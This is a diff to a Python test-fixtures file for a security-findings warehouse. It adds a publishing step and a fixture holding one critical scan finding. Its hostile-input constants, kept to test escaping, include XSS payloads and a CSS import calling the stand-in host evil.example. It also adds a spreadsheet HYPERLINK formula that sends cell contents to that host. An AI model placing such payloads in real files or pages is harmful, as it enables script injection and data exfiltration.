@@ -14,6 +14,7 @@ import yaml
 
 from transforms.domain.instants import parse_stamp
 from transforms.domain.policy import load_policy
+from warehouse import publish
 from warehouse.connection import connect
 from warehouse.home import Home
 from warehouse.job import open_job
@@ -33,6 +34,9 @@ HOSTILE = (
     "A" * 400,
     "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style>",
 )
+#: A name that a spreadsheet would run and one that is written from right to left, each long enough for three lines.
+FORMULA_TEAM = '=HYPERLINK("https://evil.example/?"&A1, "open")'
+RIGHT_TO_LEFT_TEAM = "فريق حماية البيانات " * 12
 HOSTILE_TARGET = f"<svg onload='{PAYLOAD}'>"
 HOSTILE_TEAM = f"<b onmouseover='{PAYLOAD}'>team</b>"
 
@@ -46,7 +50,8 @@ def built(home: Path, landing: Path, as_of: str, policy: Path | None = None) -> 
         job.ingest(str(landing))
         job.compute()
         job.build_marts()
-        job.finish(is_published=True)
+        job.finish()
+        publish.mark(job.connection, job.stamp.run_id)
     connection = connect(Home(home).warehouse)
     try:
         yield connection
@@ -95,6 +100,19 @@ def hostile_texts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.D
         ],
     )
     with built(folder / "home", landing, "2026-05-04T12:00:00Z") as connection:
+        yield connection
+
+
+@pytest.fixture(scope="session")
+def one_finding(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
+    """One critical finding on a target that no register knows."""
+    folder = tmp_path_factory.mktemp("one")
+    finding = {"title": "T", "severity": "Critical", "description": "d", "unique_id_from_tool": "F", "vuln_id_from_tool": "R"}
+    path = folder / "landing" / "scans" / "s.json"
+    path.parent.mkdir(parents=True)
+    path.write_text(json.dumps({"findings": [finding]}), encoding="utf-8")
+    path.with_name("s.json.meta.yaml").write_text(yaml.safe_dump({"target": "pay", "captured_at": "2026-05-04T09:00:00Z", "scanner": "one"}), encoding="utf-8")
+    with built(folder / "home", folder / "landing", "2026-05-06T12:00:00Z") as connection:
         yield connection
 
 
